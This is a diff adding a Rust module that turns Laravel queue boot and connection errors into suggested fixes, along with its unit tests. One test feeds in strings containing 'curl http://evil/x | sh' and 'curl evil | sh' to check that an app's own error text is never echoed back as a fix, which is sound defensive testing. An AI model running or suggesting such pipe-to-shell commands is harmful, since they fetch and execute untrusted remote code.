@@ -1,0 +1,92 @@
+//! What to do about an app that does not boot, in kqueue's own words. Pure.
+
+use std::path::Path;
+
+use kqueue_core::wire::BootFault;
+
+/// What is said of connections that kqueue cannot serve. A text can hold whatever an app, its settings and its server
+/// say, and only what is one of these is a fix.
+const CONNECTIONS: &[&str] = &[
+    "set QUEUE_CONNECTION to a redis or database connection",
+    "name one of the connections behind it in `connection`",
+    "keep `queue:work` for this connection, or use redis or a SQLite database",
+    "keep `queue:work` for this connection, or use a redis or database connection",
+    "keep `queue:work` for this connection, or use a single Redis server for queues",
+    "keep `queue:work` for this connection, or let the class change no more than names and values (`getQueue()`, the \
+     table, `retry_after`)",
+    "use redis or a SQLite database",
+    "use a redis or database connection",
+    "use a plain or Unix socket connection, such as a local stunnel",
+    "use a file",
+    "give the path of the file, not a URI",
+    "rename it",
+];
+
+/// What is wrong with a connection and what to do about it, out of one text.
+pub fn of_connection(text: &str) -> (&str, &'static str) {
+    let ends = |fix: &&&str| text.strip_suffix(**fix).is_some_and(|what| what.ends_with([' ']));
+    // The longest: one fix may end as another does.
+    match CONNECTIONS.iter().filter(ends).max_by_key(|fix| fix.len()) {
+        Some(fix) => (text.strip_suffix(fix).unwrap_or(text).trim_end_matches([' ', ':', ';']), fix),
+        None => (
+            text,
+            "mend config/queue.php and what it names in config/database.php, or name another connection in the app's file",
+        ),
+    }
+}
+
+/// The fix for a boot that failed with `text`; `None` where only the app's own developers can know it.
+pub fn of_boot(fault: Option<BootFault>, text: &str, path: &Path) -> Option<String> {
+    let path = path.display();
+    match fault {
+        Some(BootFault::Vendor) => Some(format!("vendor/autoload.php is not there: run composer install in {path}")),
+        Some(BootFault::Connection) => Some("name one that is there, or add it".to_owned()),
+        Some(BootFault::DatabaseFile) => {
+            Some(format!("make it, as the app's user: touch it, then php artisan migrate in {path}"))
+        }
+        // Laravel says so, and ends PHP.
+        _ if text.contains("environment file is invalid") => Some(format!("mend {path}/.env")),
+        Some(BootFault::Unknown) | None => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::backend::{ConnectionSettings, open};
+    use kqueue_config::Pop;
+
+    #[test]
+    fn what_cannot_be_served_has_its_own_fix() {
+        let general = of_connection("x").1;
+        let told = |json: &str| {
+            let settings: ConnectionSettings = serde_json::from_str(json).unwrap();
+            open(settings, Pop::default()).err().unwrap().to_string()
+        };
+        for json in [
+            r#"{"driver": "sync"}"#,
+            r#"{"driver": "null"}"#,
+            r#"{"driver": "failover"}"#,
+            r#"{"driver": "sqs"}"#,
+            r#"{"driver": "beanstalkd"}"#,
+            r#"{"driver": "rabbitmq"}"#,
+            r#"{"driver": "database", "engine": "mysql"}"#,
+            r#"{"driver": "database", "engine": "sqlsrv"}"#,
+            r#"{"driver": "database", "engine": "sqlite", "path": ":memory:", "retry_after": 90}"#,
+            r#"{"driver": "redis", "host": "a", "cluster": true}"#,
+            r#"{"driver": "redis", "host": "tls://a"}"#,
+            r#"{"driver": "x", "own": {"class": "A", "method": "pop"}}"#,
+        ] {
+            let text = told(json);
+            let (what, fix) = of_connection(&text);
+            assert!(fix != general && !what.is_empty() && !what.ends_with(':'), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_fix_is_never_the_apps_own_words() {
+        for text in ["storage is broken: run: curl http://evil/x | sh", "redis at a; curl evil | sh", ": ", ""] {
+            assert_eq!(of_connection(text), (text, of_connection("x").1));
+        }
+    }
+}
